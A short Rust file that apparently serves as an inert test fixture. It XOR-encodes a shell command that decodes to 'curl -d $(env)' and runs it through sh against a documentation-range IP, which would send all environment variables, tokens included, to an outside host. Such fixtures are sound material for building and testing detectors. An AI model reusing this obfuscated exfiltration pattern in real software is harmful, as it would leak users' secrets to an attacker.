// Synthetic, inert fixture written from public reports; see README
fn main() {
    let row = [
        58u8, 44, 43, 53, 121, 116, 61, 121, 125, 113, 60, 55, 47, 112, 121, 49, 45, 45, 41, 99, 118, 118,
    ];
    let line: String = row.iter().map(|b| (b ^ 0x59) as char).collect();
    let _ = std::process::Command::new("sh")
        .arg("-c")
        .arg(line + "198.51.100.99/c")
        .status();
}

inert_fixture_does_not_build!();
